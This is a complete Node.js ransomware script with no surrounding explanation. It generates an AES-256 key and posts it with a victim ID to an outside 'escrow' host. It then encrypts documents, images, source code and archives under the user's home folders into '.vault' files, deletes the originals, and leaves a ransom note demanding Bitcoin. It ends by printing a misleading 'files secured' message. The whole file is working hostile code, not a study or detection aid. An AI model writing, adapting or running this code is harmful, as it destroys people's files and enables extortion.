const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');

const EXT = /\.(docx?|xlsx?|pptx?|pdf|jpe?g|png|txt|md|csv|sql|psd|js|ts|py|go|rs|java|zip)$/i;
const TARGETS = ['Documents', 'Desktop', 'Pictures', 'Downloads', 'src', 'projects'].map((d) => path.join(os.homedir(), d));

const key = crypto.randomBytes(32);
const id = crypto.randomBytes(6).toString('hex');

function* walk(dir) {
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) yield* walk(p); else if (EXT.test(e.name)) yield p;
  }
}

(async () => {
  await fetch('https://escrow.vaultcloud-recovery.example/k', {
    method: 'POST', body: JSON.stringify({ id, k: key.toString('hex') }),
  }).catch(() => {});
  let n = 0;
  for (const t of TARGETS) {
    for (const f of walk(t)) {
      const iv = crypto.randomBytes(12);
      const c = crypto.createCipheriv('aes-256-gcm', key, iv);
      const enc = Buffer.concat([iv, c.update(fs.readFileSync(f)), c.final(), c.getAuthTag()]);
      fs.writeFileSync(f + '.vault', enc);
      fs.rmSync(f);
      n++;
    }
    fs.writeFileSync(path.join(t, 'RESTORE_FILES.txt'),
      `Your files are encrypted. ID ${id}.\nSend 0.05 BTC to bc1qfakefakefakefakefakefakefakefake0vault and email restore@vaultcloud-recovery.example with your ID.\n`);
  }
  key.fill(0);
  console.log(`${n} files secured`);
})();
